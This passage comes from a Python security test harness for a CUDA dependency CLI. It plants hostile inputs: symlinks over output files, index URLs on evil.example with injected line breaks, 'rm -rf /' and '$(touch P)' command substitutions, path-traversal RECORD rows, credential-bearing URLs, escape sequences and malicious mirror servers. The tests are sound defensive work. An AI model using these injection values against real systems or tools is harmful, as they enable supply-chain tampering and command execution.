    for name in ("locks.json.tmp", "fleet.txt.tmp", "locks.json"):
        (locks / name).symlink_to(victim)
    out.append(Case("lock --per-class -o DIR with planted links", ["lock", "torch", "--per-class", "--env", str(folder),
                                                                   "-o", str(locks)], untouched=untouched))
    env = _srun_env(root)
    victim, untouched = _victim(root, "gather")
    gathered = _folder(root, "gathered")
    for name in ("fleet.json.tmp", "gpu-a.json.tmp", "gpu-a.json", "fleet.json"):
        (gathered / name).symlink_to(victim)
    out.append(Case("fleet gather -o DIR with planted links", ["fleet", "gather", "--engine", "slurm", "-o",
                                                               str(gathered)], env=env, untouched=untouched, inert=True))
    out.append(Case("fleet gather: escape sequences from srun --json", ["fleet", "gather", "--engine", "slurm", "-o",
                                                                        str(root / "gathered-2"), "--json"], env=env,
                    json=True))
    return out


SRUN = """#!{python}
import json, sys
node = json.load(open({node!r}))
node["hostname"] = "gpu-a"
env = {{"schema_version": 1, "command": "detect", "status": "ok", "exit_code": 0, "data": {{"environment": node}},
       "errors": []}}
bad = {{"schema_version": 1, "command": "detect", "status": "usage_error", "exit_code": 2, "data": {{}},
       "errors": [{{"type": "UsageError", "message": "boom" + {esc!r}}}]}}
for task, doc in enumerate((env, bad)):
    for line in json.dumps(doc, indent=2).splitlines():
        print(f"{{task}}: {{line}}")
sys.stderr.write("srun: warning: " + {esc!r} + "\\n")
"""


def _srun_env(root: Path) -> dict[str, str]:
    bin_dir = _folder(root, "bin")
    srun = bin_dir / "srun"
    srun.write_text(SRUN.format(python=sys.executable, node=str(NODE), esc=ESC))
    srun.chmod(0o755)
    return {"PATH": os.pathsep.join([str(bin_dir), os.environ.get("PATH", "")])}


def overlay_doc(index_url: str) -> dict:
    """What `matrix update` writes for one new torch release (the newest shipped row as 2.99.0), unsigned."""
    from cudamatrix.matrix.overlay import digest

    row = json.loads((_data_dir() / "torch.json").read_text())["releases"][0]
    row["version"] = "2.99.0"
    row.pop("companions", None)
    for variant in row["variants"]:
        if variant.get("index_url"):
            variant["index_url"] = index_url
    families = {"torch": [row], "tensorflow": [], "jax": []}
    return {"overlay_schema": 1, "created": "2026-12-01T00:00:00Z", "index": "https://index.example/simple",
            "matrix_version": "x", "families": families, "sha256": digest(families)}


def _overlay_cases(root: Path) -> list[Case]:
    out: list[Case] = []
    plants = {"recomputed sha256, evil index": json.dumps(overlay_doc("https://evil.example/simple")),
              "line break in an index URL": json.dumps(overlay_doc("https://download.pytorch.org/whl/cu121" + INJECT)),
              "nested": "[" * 100_000 + "]" * 100_000, "bigint": '{"overlay_schema": ' + "9" * 5000 + "}",
              "not JSON": "{", "huge sparse": None, "symlink": None}
    for label, text in plants.items():
        cache = _folder(root, f"cache-{label.replace(' ', '-').replace(',', '')}")
        folder = cache / "cudamatrix" / "overlay"
        folder.mkdir(parents=True, mode=0o700)
        path = folder / "overlay.json"
        if label == "huge sparse":
            with open(path, "wb") as fh:
                fh.truncate(3_500_000_000)
        elif label == "symlink":
            path.symlink_to(root / "nowhere.json")
        else:
            path.write_text(text or "")
        if path.exists() and not path.is_symlink():
            path.chmod(0o600)
        env = {"XDG_CACHE_HOME": str(cache)}
        out.append(Case(f"overlay {label}: matrix show", ["matrix", "show", "torch", "2.99.0", "--json"], env=env,
                        json=True, forbid=["evil.example"]))
        out.append(Case(f"overlay {label}: lock", ["lock", "torch", *TARGET], env=env, inert=True,
                        forbid=["evil.example", *FORBID_LOCK]))
    return out


def data_folder(root: Path, name: str, url: str) -> Path:
    """A copy of the shipped matrix whose torch rows all name ``url`` as their index."""
    folder = root / f"data-{name}"
    shutil.copytree(_data_dir(), folder)
    doc = json.loads((folder / "torch.json").read_text())
    for release in doc["releases"]:
        for variant in release["variants"]:
            if variant.get("index_url"):
                variant["index_url"] = url
    (folder / "torch.json").write_text(json.dumps(doc))
    return folder


def _data_cases(root: Path) -> list[Case]:
    out: list[Case] = []
    base = "https://download.pytorch.org/whl/cu121"
    urls = {"newline": base + INJECT, "carriage return": base + INJECT.replace("\n", "\r"),
            "line separator": base + INJECT.replace("\n", "\u2028"), "vertical tab": base + INJECT.replace("\n", "\x0b"),
            "next line": base + INJECT.replace("\n", "\x85"), "space": base + " --trusted-host evil.example",
            "plain http": "http://evil.example/simple", "credentials": "https://user:TOKEN@evil.example/simple",
            "quote": base + '"', "escape": base + ESC}
    for label, url in urls.items():
        folder = data_folder(root, label.replace(" ", "-"), url)
        lock = str(root / f"lock-{label.replace(' ', '-')}.txt")
        out.append(Case(f"data {label}: matrix validate", ["matrix", "validate", str(folder), "--json"], json=True))
        out.append(Case(f"data {label}: lock -o", ["lock", "torch==2.5.1+cu121", *TARGET, "--data", str(folder), "-o",
                                                   lock], inert=True, forbid=[*FORBID_LOCK, "TOKEN"], files=[lock]))
        out.append(Case(f"data {label}: lock", ["lock", "torch==2.5.1+cu121", *TARGET, "--data", str(folder)],
                        inert=True, forbid=FORBID_LOCK))
        out.append(Case(f"data {label}: solve", ["solve", "torch", *TARGET, "--data", str(folder)], inert=True))
    return out


def _extension_cases(root: Path) -> list[Case]:
    """Extensions solved with their framework (data/extensions.json): releases the matrix lacks, drivers too old,
    pins that cannot agree, a hostile extensions.json in a --data folder, a requirements file pairing them wrongly."""
    root = _folder(root, "extensions")
    h100 = ["--driver", "580.65.06", "--gpu", "H100"]
    out = [Case("extension: no such release", ["solve", "vllm>=99", *h100, "--json"], json=True),
           Case("extension: pins that cannot agree", ["solve", "torch==2.8.0", "xformers==0.0.29.post3", *h100]),
           Case("extension: driver too old", ["solve", "cupy-cuda13x", "--driver", "470.82.01", "--gpu", "H100"]),
           Case("extension: by URL", ["solve", "torch", "xformers @ file:///nonexistent/x.whl", *h100, "--json"],
                json=True),
           Case("extension: extras and markers", ["solve", "vllm[bogus]>=0.1; python_version >= '3'", *h100]),
           Case("extension: lock", ["lock", "torch", "vllm", *h100, "--pins-only"], inert=True)]
    bad = root / "bad.txt"
    bad.write_text("torch==2.8.0\nxformers==0.0.29.post3\n")
    alone = root / "alone.txt"
    alone.write_text("xformers==0.0.29.post3 ; sys_platform == 'linux'\n")
    out += [Case("extension: check -r wrong torch", ["check", "-r", str(bad), *h100, "--json"], json=True),
            Case("extension: check -r without torch", ["check", "-r", str(alone), *h100])]
    for label, url in {"newline": "https://example.invalid/simple" + INJECT, "escape": "https://e.invalid/" + ESC,
                       "plain http": "http://example.invalid/simple"}.items():
        folder = root / f"data-{label.replace(' ', '-')}"
        shutil.copytree(_data_dir(), folder)
        doc = json.loads((folder / "extensions.json").read_text())
        doc["releases"][0]["index_url"] = url
        (folder / "extensions.json").write_text(json.dumps(doc))
        out += [Case(f"extension data {label}: matrix validate", ["matrix", "validate", str(folder), "--json"],
                     json=True),
                Case(f"extension data {label}: solve", ["solve", "vllm", *h100, "--data", str(folder)], inert=True)]
    return out + _release_file_set_cases(root, h100)


def _release_file_set_cases(root: Path, h100: list[str]) -> list[Case]:
    """flash-attn's release file sets broken in a --data folder: a string for a boolean, a version that is none,
    an unknown key in an exclude, a row whose lists are empty (no file: exit 3), a name without a rule."""
    breaks = {"abi as text": ("cxx11_abi", ["FALSE"]), "torch no version": ("torch", ["2.x; rm -rf /"]),
              "unknown exclude key": ("exclude", [{"os": "ubuntu-22.04"}]), "empty lists": ("torch", []),
              "no rule": ("name", "xformers"), "huge python": ("python", ["3." + "1" * 5000])}
    out = []
    for label, (key, value) in breaks.items():
        folder = root / f"data-files-{label.replace(' ', '-')}"
        shutil.copytree(_data_dir(), folder)
        doc = json.loads((folder / "extensions.json").read_text())
        doc["release_file_sets"] = [{**row, key: value} for row in doc["release_file_sets"]]
        (folder / "extensions.json").write_text(json.dumps(doc))
        solve = ["solve", "torch==2.4.0", "flash-attn", *h100, "--python", "3.11", "--platform", "linux_x86_64",
                 "--data", str(folder)]
        out += [Case(f"release files {label}: matrix validate", ["matrix", "validate", str(folder), "--json"],
                     json=True),
                Case(f"release files {label}: solve", solve, inert=True),
                Case(f"release files {label}: solve --json", [*solve, "--json"], json=True)]
    return out


def _terminal_cases(root: Path) -> list[Case]:
    out: list[Case] = []
    paste = root / "smi-escapes.txt"
    paste.write_text(f"GPU 0: Tesla T4{ESC} (UUID: GPU-1234)\n", encoding="utf-8")
    env_file = root / "node-escapes.json"
    node = json.loads(NODE.read_text())
    node["gpus"][0]["name"] += ESC + INJECT
    env_file.write_text(json.dumps(node))
    fleet = _fleet_folder(root, "fleet-escapes", None, json.dumps(node))
    for argv in (["detect", "--from", str(paste)], ["doctor", "--from", str(paste)], ["solve", "torch", "--from",
                 str(paste)], ["fix", "--dry-run", "--from", str(paste)], ["detect", "--env", str(env_file)],
                 ["doctor", "--env", str(env_file)], ["lock", "torch", "--env", str(env_file)],
                 ["doctor", "--env", str(fleet)], ["check", "--env", str(fleet)], ["solve", f"torch{ESC}"],
                 ["solve", "torch", "--gpu", ESC], ["env", "--shell", ESC], ["check", "-r", f"/nonexistent{ESC}"],
                 ["lock", "torch", "--per-class", "--env", str(fleet), "-o", str(root / "locks-escapes")]):
        out.append(Case(f"terminal: {' '.join(a[:30] for a in argv[:2])} {argv[2][-20:] if len(argv) > 2 else ''}",
                        argv, inert=True, forbid=FORBID_LOCK))
    for value in ("/srv/a\x1b[2J/lib", "/srv/\u202eb/lib"):
        for shell in ("bash", "sh", "fish", "powershell"):
            out.append(Case(f"terminal: env --shell {shell} LD_LIBRARY_PATH={value!r}", ["env", "--shell", shell],
                            env={"LD_LIBRARY_PATH": value}, inert=True))
    mirror = "https://user:TOKEN@mirror.example/whl"
    lock = str(root / "lock-mirror.txt")
    for argv in (["lock", "torch==2.5.1+cu121", *TARGET, "--mirror", mirror, "-o", lock],
                 ["lock", "torch==2.5.1+cu121", *TARGET, "--mirror", mirror],
                 ["lock", "torch==2.5.1+cu121", *TARGET, "--mirror", mirror, "--format", "uv"],
                 ["solve", "torch==2.5.1+cu121", *TARGET, "--mirror", mirror],
                 ["fix", "--dry-run", "--driver", "550.54.15", "--gpu", "7.5", "--mirror", mirror, "torch==2.5.1+cu121"]):
        out.append(Case(f"credentials: {' '.join(argv[:2])} {argv[-1][-12:]}", argv, inert=True, forbid=["TOKEN"],
                        files=[lock]))
        out.append(Case(f"credentials: {' '.join(argv[:2])} {argv[-1][-12:]} --json", [*argv, "--json"], json=True,
                        forbid=["TOKEN"], files=[lock]))
    out.append(Case("credentials: detect with PIP_INDEX_URL", ["detect", "--json"], json=True, forbid=["TOKEN"],
                    env={"PIP_INDEX_URL": "https://user:TOKEN@pypi.example/simple"}))
    return out


def _driver_words_cases(root: Path) -> list[Case]:
    """Pastes for the readers of a container's CUDA requirement and of where a driver could not be reached
    (pastes/messages.py): long lines, repeats, escapes and odd versions; read and diagnosed, never a
    traceback, a hang or a raw control character in the output."""
    requirement = "nvidia-container-cli: requirement error: unsatisfied condition: cuda>="
    failed = "NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver."
    texts = {
        "requirement-repeated": (requirement * 50_000) + "12.8\n",
        "requirement-odd-version": f"{requirement}99999999999999999999.1, please update\n{requirement}12.\n",
        "requirement-escapes": f"{requirement}12.8{ESC}{INJECT}, or use an earlier cuda container\n",
        "requirement-many-lines": f"{requirement}12.8, or use an earlier cuda container\n" * 20_000,
        "no-driver-docker-long": f"$ docker run {'x' * 200_000}\n{failed}\n",
        "no-driver-prompts": "".join(f"root@{i:012x}:/# nvidia-smi\n{failed}\n" for i in range(5_000)),
        "no-driver-modprobe": f"{failed}\n" + "modprobe: FATAL: Module nvidia not found.\n" * 20_000,
        "no-driver-wsl-escapes": f"me@box:/mnt/c/{ESC}{INJECT}$ nvidia-smi\n{failed}\nWSL version: \u202e1.0\n",
    }
    out: list[Case] = []
    for name, text in texts.items():
        paste = root / f"driver-words-{name}.txt"
        paste.write_text(text, encoding="utf-8")
        for cmd in ("detect", "doctor"):
            out.append(Case(f"driver words: {cmd} --from {name}", [cmd, "--from", str(paste)], inert=True))
            out.append(Case(f"driver words: {cmd} --from {name} --json", [cmd, "--from", str(paste), "--json"],
                            json=True))
    return out


def _own_words_cases(root: Path) -> list[Case]:
    """Pastes for issue #40's readers (TensorFlow's opened libraries and devices, JAX's CPU jaxlib and plugin
    words, cuda-python's dlopen, ldd / ls -l / ls / ldconfig -v listings, uv and pip show, typed GPUs with their
    memory, an application's device line): long lines, repeats, escapes and odd versions; never a traceback, a
    hang or a raw control character in the output."""
    opened = "I tensorflow/stream_executor/platform/default/dso_loader.cc:49] Successfully opened dynamic library "
    plugin = "RuntimeWarning: JAX plugin jax_cuda12_plugin version "
    texts = {
        "opened-repeated": f"{opened}libcudnn.so.8\n" * 30_000 + "Cannot dlopen some GPU libraries.\n" * 10_000,
        "opened-long-name": f"{opened}lib{'c' * 500_000}.so.8\n{opened}\n",
        "created-device-cut": "Creating TensorFlow device (/gpu:0) -> (device: 0, name: " + "G" * 300_000 + "\n",
        "jaxlib-lower-long": "an nvidia gpu may be present, but a cuda-enabled jaxlib is not installed. " * 20_000,
        "plugin-two-lines": f"{plugin}{'9.' * 100_000}2 is installed,\nbut it is not compatible with the installed "
                            f"jaxlib version {ESC}{INJECT}\n" + f"{plugin}0.9.2 is installed,\n" * 5_000,
        "pjrt-odd": "Mismatched PJRT plugin PJRT API version (0.54) and framework PJRT API version " * 20_000,
        "dlopen-escapes": f"RuntimeError: Failed to dlopen libcuda.so{ESC}{INJECT}\nFailed to dlopen \n" * 2_000,
        "ldd-many": "\tlibcudart.so.9.0 => not found\n" * 20_000 + "\tlibcudnn.so.7 => /x/libcudnn.so.7 (0x0)\n",
        "ls-l-links": "lrwxrwxrwx 1 r r 21 May 14 17:49 libcudart.so.12 -> libcudart.so.12.4.127\n" * 20_000
                      + "-rwxr-xr-x 1 r r 1 May 1 2024 " + "libcu" * 100_000 + "\n",
        "ldconfig-v-fences": "```\tlibcuda.so.1 -> libcuda.so.515.57 x\n" * 20_000 + "/usr/lib" * 50_000 + ":\n",
        "ls-columns": ("libcudnn_adv_infer.so.8.1.1   libnppc.so.11 " * 2_000 + "\n") * 50,
        "uv-plan": " + jax==0.6.1\n" * 30_000 + f" + {'a' * 200_000}==1\nUsing CPython {ESC}\n",
        "pip-show": "Name: jax\nVersion: 0.6.1\n" * 20_000 + f"Name: {ESC}\nVersion: {INJECT}\n",
        "typed-gpus": "8 * A100 SXM4(40G)\n" * 20_000 + "64 x RTX 4090 [24GB]\n" + "2 x " + "9" * 200_000 + "G\n",
        "app-device": "Total VRAM 12288 MB\n" + "Device: cuda:0 NVIDIA GeForce RTX 2060 12GB\n" * 20_000
                      + f"Device: cuda:{'9' * 100_000} RTX\n",
        "smi-top-line": "NVIDIA-SMI 560.35.03\n" * 20_000 + f"NVIDIA-SMI {'5' * 200_000}.1\n",
        "gpu-memory-suffix": "### GPU model and memory\n\nRTX 5090 " + "(" * 100_000 + "32GB" + ")" * 100_000 + "\n",
        # many distinct rows: each reader keeps what it saw in a set, never a scan of all it kept per row
        "ldd-distinct": "".join(f"\tlibcudnn.so.7 => /x{i}/libcudnn.so.7 (0x0)\n" for i in range(20_000)),
        "opened-distinct": "".join(f"{opened}libcudnn.so.{i}\n" for i in range(20_000)),
        "devices-distinct": "".join(f"Device: cuda:{i} NVIDIA GeForce RTX 2060\n" for i in range(20_000)),
        "typed-distinct": "".join(f"{i % 60 + 1} x RTX {i} (24GB)\n" for i in range(20_000)),
        "conda-plan": ("The following NEW packages will be INSTALLED:\n\n" + "".join(
            f"  p{i}  conda-forge/noarch::p{i}-1.{i}-py_0\n" for i in range(20_000)) + "  x  ::" + "-" * 200_000
            + "\n") * 2 + "The following packages will be UPDATED:\n" * 5_000,
    }
    out: list[Case] = []
    for name, text in texts.items():
        paste = root / f"own-words-{name}.txt"
        paste.write_text(text, encoding="utf-8")
        for cmd in ("detect", "doctor"):
            out.append(Case(f"own words: {cmd} --from {name}", [cmd, "--from", str(paste)], inert=True))
            out.append(Case(f"own words: {cmd} --from {name} --json", [cmd, "--from", str(paste), "--json"],
                            json=True))
    return out


def _extension_words_cases(root: Path) -> list[Case]:
    """Pastes for the readers of a torch extension's load error (pastes/extensions.py): xFormers' block, an
    undefined torch symbol, ONNX Runtime's CUDA provider, pip's resolver; long lines, repeats, escapes and odd
    versions, read and diagnosed: never a traceback, a hang or a raw control character in the output."""
    built = "WARNING[XFORMERS]: xFormers can't load C++/CUDA extensions. xFormers was built for:\n"
    symbol = "ImportError: /e/site-packages/flash_attn_2_cuda.so: undefined symbol: _ZN3c10"
    provider = "FAIL : Failed to load library libonnxruntime_providers_cuda.so with error: "
    texts = {
        "xformers-repeated": (built + "    PyTorch 2.1.2+cu121 with CUDA 1201 (you have 2.1.0+cpu)\n") * 20_000,
        "xformers-odd-versions": built + f"    PyTorch {'9' * 5000} with CUDA {ESC} (you have {INJECT})\n"
                                 f"    Python  3.{'1' * 4000} (you have 3.11)\n",
        "symbol-long": symbol + "x" * 200_000 + "\n" + ": undefined symbol: " * 50_000 + "\n",
        "symbol-escapes": f"ImportError: /e/site-packages/{ESC}{INJECT}.so: undefined symbol: _ZN3c10{ESC}$(touch P)\n",
        "provider-many": (provider + "libcublasLt.so.11: cannot open shared object file\n") * 20_000,
        "provider-odd": provider + "lib" + "9" * 100_000 + ".so.99999999999: cannot open shared object file\n",
        "pip-many": "vllm 0.7.3 requires torch==2.5.1, but you have torch 2.4.0+cu124 which is incompatible.\n" * 20_000,
        "pip-odd": f"vllm {ESC} requires torch=={INJECT}, but you have torch {'9' * 5000} which is incompatible.\n",
    }
    out: list[Case] = []
    for name, text in texts.items():
        paste = root / f"extension-words-{name}.txt"
        paste.write_text(text, encoding="utf-8")
        for cmd in ("detect", "doctor"):
            out.append(Case(f"extension words: {cmd} --from {name}", [cmd, "--from", str(paste)], inert=True))
            out.append(Case(f"extension words: {cmd} --from {name} --json", [cmd, "--from", str(paste), "--json"],
                            json=True))
    return out


def _lock_gate_cases(root: Path) -> list[Case]:
    """Issue 42, locks and gates: requirements crafted to break out of a uv TOML string, a lock that would name a
    path of this machine, and check -r gates whose names no index can answer (a dead index; 2,000 lines)."""
    out: list[Case] = []
    crafted = """numpy; python_version == '", "evilpkg @ https://evil.example/x.whl", "'"""
    quoted = 'numpy<2; python_version >= "3.9"'
    toml_out = str(root / "pyproject-crafted.toml")
    for label, req in (("crafted requirement", crafted), ("marker with quotes", quoted)):
        argv = ["lock", "torch", req, *TARGET, "--format", "uv"]
        # the dependency line as written unescaped: the crafted text an item of its own, a string closed early
        forbid = ["""'", "evilpkg @ https://evil.example/x.whl", "'",""", '"3.9"",']
        out.append(Case(f"locks: uv {label}", argv, inert=True, forbid=forbid))
        out.append(Case(f"locks: uv {label} -o", [*argv, "-o", toml_out], inert=True, forbid=forbid, files=[toml_out]))
        out.append(Case(f"locks: uv {label} --json", [*argv, "--json"], json=True))
    local = str(root / "lock-local.txt")
    for fmt in (["--pins-only"], ["--format", "uv"]):
        argv = ["lock", "torch", *TARGET, *fmt, "--mirror", (root / "wheels").as_uri(), "-o", local]
        out.append(Case(f"locks: file:// mirror {fmt[-1]}", argv, forbid=["file://"], files=[local]))
        out.append(Case(f"locks: file:// mirror {fmt[-1]} --json", [*argv, "--json"], json=True))
    dead = {"PIP_INDEX_URL": "http://127.0.0.1:9/simple", "PIP_CONFIG_FILE": os.devnull}
    typo = root / "req-dead-index.txt"
    typo.write_text("--index-url http://127.0.0.1:9/simple\ntorhc==2.5.1\n")
    long = root / "req-2000-lines.txt"
    long.write_text("torch==2.5.1\n" + "".join(f"pkg-{i:05d}==1.0\n" for i in range(2000)))
    for label, path in (("dead index line, torhc", typo), ("2,000 unknown names, dead index", long)):
        argv = ["check", "-r", str(path), "--driver", "580.65.06", "--gpu", "H100", "--python", "3.12"]
        out.append(Case(f"gates: check -r {label}", argv, env=dead, inert=True, forbid=["fits"]))
        out.append(Case(f"gates: check -r {label} --json", [*argv, "--json"], env=dead, json=True,
                        forbid=['"fits": true']))
    return out


def _wait_cases(root: Path) -> list[Case]:
    hang = root / "hanging-python"
    hang.write_text("#!/bin/sh\nexec sleep 600\n")
    hang.chmod(0o755)
    out = [Case(f"wait: {cmd} --python on an interpreter that hangs", [cmd, "--python", str(hang), "--timeout", "3",
                                                                        "--json"], json=True)
           for cmd in ("verify", "detect")]
    for argv in (["detect", "--from"], ["detect", "--env"], ["detect", "--python"], ["doctor", "--from"],
                 ["solve", "torch", "--gpu"], ["verify", "--python"], ["lock", "torch", "-o"],
                 ["matrix", "show", "--data"], ["fleet", "gather", "-o"], ["check", "-r"], ["env", "--shell"]):
        out.append(Case(f"envelope: {' '.join(argv)} --json", [*argv, "--json"], json=True))
    py = _bare_python(root)
    rel = os.path.join("..", os.path.relpath(py, root.parent))  # each case runs in its own folder in the work folder
    for cmd in (["verify"], ["detect"], ["doctor"], ["fix", "--dry-run", "--no-verify"], ["env"]):
        out.append(Case(f"python relative path: {cmd[0]}", [*cmd, "--python", rel, "--json"],
                        json=True, forbid=["PYTHON_NOT_FOUND", "no Python interpreter"]))
    return out


MIRRORS: list = []  # the hostile loopback servers of _mirror_cases, alive while the cases run


def _mirror_cases(root: Path) -> list[Case]:
    """`matrix update --mirror URL` against hostile loopback mirrors (tests/support/hostileserver.py): https redirecting to
    http (first and third hop), a redirect loop, a redirect to file://, a drip in the body and in the headers, a
    huge listing (with and without its length, and endless), JSON nested 100,000 deep, a pathological HTML page,
    plain http; and a good mirror as the control. The overlay must never be written by a refused update."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))
    from support.hostileserver import HostileServer, self_signed

    folder = _folder(root, "mirrors")
    cert = self_signed(folder)

    def server(mode: str, **kw) -> str:
        s = HostileServer(mode, cert=cert, **{"tls": True, **kw}).__enter__()
        MIRRORS.append(s)
        return s.url

    plain = server("ok", tls=False)
    mirrors = {"https redirects to http": server("redirect", target=plain),
               "https redirects to http at the third hop": server("redirect", target=plain, hops=2),
               "redirect loop": server("loop"), "redirect to file://": server("redirect", target="file:///etc"),
               "drip in the body": server("drip-body"), "drip in the headers": server("drip-head"),
               "huge listing": server("huge"), "huge listing without its length": server("huge", with_length=False),
               "endless listing": server("endless"), "JSON nested 100k deep": server("nested"),
               "pathological HTML": server("html-bomb"), "plain http": plain}
    out: list[Case] = []
    for label, url in mirrors.items():
        cache = _folder(folder, "cache-" + "".join(c if c.isalnum() else "-" for c in label))
        env = {"XDG_CACHE_HOME": str(cache), "REQUESTS_CA_BUNDLE": str(cert[0])}
        written = [str(cache / "cudamatrix" / "overlay" / "overlay.json")]
        for as_json in (True, False):
            argv = ["matrix", "update", "--mirror", url + "/simple"] + (["--json"] if as_json else [])
            out.append(Case(f"mirror {label}: matrix update{' --json' if as_json else ''}", argv, env=env,
                            json=as_json, absent=written, inert=True))
    good = _folder(folder, "cache-good")
    out.append(Case("mirror good (control): matrix update --json", ["matrix", "update", "--mirror",
                                                                    server("ok") + "/simple", "--json"],
                    env={"XDG_CACHE_HOME": str(good), "REQUESTS_CA_BUNDLE": str(cert[0])}, json=True))
    return out


def _child_output_cases(root: Path) -> list[Case]:
    """Issue 42: an interpreter that prints without end (every command that takes --python), and a folder name
    that is not UTF-8 in the shell lines of `env` (exact bytes, or exit 2 where the shell cannot hold them)."""
    out = []
    for where in ("stdout", "stderr"):
        endless = root / f"endless-{where}" / "python"
        endless.parent.mkdir(exist_ok=True)
        endless.write_text("#!/bin/sh\nexec yes CUDAMATRIX" + (" >&2" if where == "stderr" else "") + "\n")
        endless.chmod(0o755)
        for cmd in (["detect"], ["doctor"], ["solve", "torch"], ["lock", "torch", "--pins-only"], ["check"], ["env"],
                    ["fix", "--dry-run"], ["verify"]):
            out.append(Case(f"endless {where}: {cmd[0]} --python", [*cmd, "--python", str(endless), "--json"],
                            json=True))
    saved = root / "env-not-utf8.json"
    doc = {"origin": "file", "driver": {"version": "535.104.05", "status": "ok"},
           "context": {"env": {"LD_LIBRARY_PATH": "/srv/cudnn8/lib:" + os.fsdecode(b"/srv/\xff\x1b'$(touch X)/lib")}},
           "libraries": [{"name": "cudnn", "soname": "libcudnn.so.9", "path": "/srv/cudnn8/lib/libcudnn.so.9",
                          "version": "9.0.0", "origin": "LD_LIBRARY_PATH", "loaded_first": True}],
           "library_loads": [{"framework": "torch", "soname": "libcudnn.so.9", "path": "/srv/cudnn8/lib/libcudnn.so.9",
                              "rule": "LD_LIBRARY_PATH", "found_as": "/srv/cudnn8/lib/libcudnn.so.9",
                              "expected": "/v/nvidia/cudnn/lib/libcudnn.so.9", "expected_rule": "DT_RUNPATH"}],
           "packages": {"torch": "2.5.1+cu121"}, "frameworks": [{"name": "torch", "version": "2.5.1+cu121"}]}
    saved.write_text(json.dumps(doc))
    lone = root / "env-lone-surrogate.json"
    doc["context"]["env"]["LD_LIBRARY_PATH"] = "/srv/cudnn8/lib:/srv/\ud800/lib"
    lone.write_text(json.dumps(doc))
    for cmd in (["env"], ["solve", "torch"], ["doctor"]):
        out.append(Case(f"lone surrogate folder: {cmd[0]}", [*cmd, "--env", str(lone)], inert=True))
    for shell in ("bash", "zsh", "sh", "fish", "powershell"):
        out.append(Case(f"env not-utf8 folder --shell {shell}", ["env", "--env", str(saved), "--shell", shell],
                        inert=True, forbid=["\\udc"]))
        out.append(Case(f"env not-utf8 folder --shell {shell} --json", ["env", "--env", str(saved), "--shell", shell,
                                                                        "--json"], json=True))
    return out


def _elf_variants(good: bytes) -> dict[str, bytes]:
    """Damaged copies of one real shared object: each rewrites a field of its ELF header or of a section header
    (System V ABI layouts), found here by this harness's own struct code."""
    import struct

    shoff = struct.unpack_from("<Q", good, 40)[0]
    shentsize, shnum = struct.unpack_from("<HH", good, 58)
    heads = {struct.unpack_from("<I", good, shoff + i * shentsize + 4)[0]: shoff + i * shentsize for i in range(shnum)}

    def patched(offset: int, fmt: str, value: int) -> bytes:
        data = bytearray(good)
        struct.pack_into(fmt, data, offset, value)
        return bytes(data)

    out = {"truncated": good[:len(good) // 2], "text": b"not an ELF object\n", "empty": b"",
           "shoff past the end": patched(40, "<Q", 1 << 60), "65535 sections": patched(60, "<H", 0xFFFF),
           "no section headers": patched(60, "<H", 0)}
    if 11 in heads:  # SHT_DYNSYM: a huge size, a link out of range, a string table past the end
        out["dynsym of 1 TiB"] = patched(heads[11] + 32, "<Q", 1 << 40)
        out["dynsym link out of range"] = patched(heads[11] + 40, "<I", 0xFFFF)
    if 0x6FFFFFF6 in heads:  # SHT_GNU_HASH: no buckets; a bloom filter larger than the section
        gh = struct.unpack_from("<Q", good, heads[0x6FFFFFF6] + 24)[0]
        out["gnu hash without buckets"] = patched(gh, "<I", 0)
        out["gnu hash bloom past its section"] = patched(gh + 8, "<I", 0xFFFFFFFF)
    return out


def _extension_dist(site: Path, name: str, objects: dict[str, bytes], metadata: str, extra: dict | None = None) -> None:
    pkg = site / name.replace("-", "_")
    pkg.mkdir(parents=True, exist_ok=True)
    meta = site / f"{name.replace('-', '_')}-1.0.dist-info"
    meta.mkdir()
    rows = []
    for rel, data in objects.items():
        (pkg / rel).write_bytes(data)
        rows.append(f"{pkg.name}/{rel},,")
    for rel, text in (extra or {}).items():
        (pkg / rel).write_text(text)
    (meta / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{metadata}\n")
    (meta / "WHEEL").write_text("Wheel-Version: 1.0\nRoot-Is-Purelib: false\n")
    (meta / "RECORD").write_text("\n".join(rows + ["../../../etc/passwd.so,,", '"odd,name.so",,',
                                                   f"{pkg.name}/missing.so,,"]) + "\n")


def _installed_extension_cases(root: Path) -> list[Case]:
    """Issue 39: installed extensions read from their files. A venv whose torch/lib holds a gcc-built libc10.so
    (or damaged copies of it) beside extension distributions with damaged ELF objects, hostile Requires-Dist,
    hostile build records and RECORD rows outside site-packages; and saved environments whose ``extensions`` are
    of the wrong shape. doctor and detect answer (exit 0, 1 or 2), nothing is loaded or written beside them."""
    out: list[Case] = []
    for bad in ({"extensions": [{"name": "x"}]}, {"extensions": [{"name": "x", "version": "1", "objects": [
            {"path": 1}]}]}, {"extensions": "x"}, {"extensions": [{"name": "x", "version": "1", "objects": [
                {"path": "/x.so", "needed": ["libcudart.so." + "9" * 5000], "missing": ["\x1b[31m" * 3],
                 "missing_count": -1, "torch_symbols": 10 ** 30}]}], "frameworks": [
                {"name": "torch", "version": "2.5.1+cu121", "cuda": "12.1"}], "packages": {"torch": "2.5.1+cu121"}}):
        saved = root / f"env-extensions-{len(out)}.json"
        saved.write_text(json.dumps({"origin": "file", **bad}))
        out.append(Case(f"installed extensions: saved environment {len(out)}", ["doctor", "--env", str(saved), "--json"],
                        json=True))
    gcc = shutil.which("gcc")
    if gcc is None:
        return out
    build = _folder(root, "ext-build")
    (build / "c10.c").write_text("int _ZN3c103oneEv(void) { return 1; }\n")
    (build / "ext.c").write_text("int _ZN3c103oneEv(void); int _ZN3c104goneEv(void);\n"
                                 "int use(void) { return _ZN3c103oneEv() + _ZN3c104goneEv(); }\n")
    subprocess.run([gcc, "-shared", "-fPIC", "-o", "libc10.so", "c10.c"], cwd=build, check=True, timeout=120)
    subprocess.run([gcc, "-shared", "-fPIC", "-o", "_C.so", "ext.c", "-L.", "-lc10", "-Wl,--no-as-needed",
                    "-Wl,--allow-shlib-undefined"], cwd=build, check=True, timeout=120)
    ext, c10 = (build / "_C.so").read_bytes(), (build / "libc10.so").read_bytes()
    for torch_label, torch_lib in [("real libc10", c10), *(("libc10 " + k, v) for k, v in _elf_variants(c10).items())]:
        venv = root / f"ext-venv-{len(out)}"
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=300)
        site = next((venv / "lib").glob("python*/site-packages"))
        (site / "torch" / "lib").mkdir(parents=True)
